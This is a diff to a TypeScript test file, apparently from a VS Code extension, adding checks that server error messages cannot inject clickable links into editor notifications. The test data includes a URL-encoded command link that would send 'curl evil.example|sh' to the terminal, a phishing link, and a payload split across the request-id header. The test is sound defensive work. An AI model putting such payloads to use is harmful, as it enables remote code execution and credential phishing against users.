@@ -3,6 +3,9 @@ import assert from 'node:assert/strict';
 import { errorFromResponse } from '../../../src/gateway/errorBody';
 import { errorText } from '../../../src/gateway/errors';
 
+/** How VS Code's notifications find links in their message (parseLinkedText, src/vs/base/common/linkedText.ts, as in VS Code 1.139). */
+const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
+
 test('OpenAI envelope with status_code', () => {
   const e = errorFromResponse(
     404,
@@ -115,4 +118,20 @@ test('errorText: the one way an error becomes text for the user (GatewayError wi
   assert.match(errorText(gateway), /req_7/);
   assert.equal(errorText(new Error('disk full')), 'disk full');
   assert.equal(errorText('plain'), 'plain');
+});
+
+test("a server's error text cannot put a link in a notification (VS Code opens those with commands allowed)", () => {
+  const runs = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D';
+  for (const [body, requestId] of [
+    [JSON.stringify({ error: { message: `Quota exceeded. [Check your quota](${runs})`, code: 'insufficient_quota' } }), 'req_1'],
+    [JSON.stringify({ detail: `[Sign in again](${runs} "Sign in")` }), undefined],
+    ['<Error><Code>x</Code><Message>[Renew the link](https://evil.example/phish)</Message></Error>', undefined],
+    // The message opens a label that the request id (a response header) closes with its target.
+    [JSON.stringify({ error: { message: '[Retry' } }), `](${runs})`],
+  ] as const) {
+    const shown = errorText(errorFromResponse(429, body, 'application/json', requestId, undefined));
+    assert.deepEqual(shown.match(NOTIFICATION_LINK), null, shown);
+    assert.ok(shown.includes(runs.slice(0, 40)) || shown.includes('evil.example'), `the target stays readable: ${shown}`);
+  }
+  assert.equal(errorText(new Error('[a](command:x)')), '[a] (command:x)');
 });
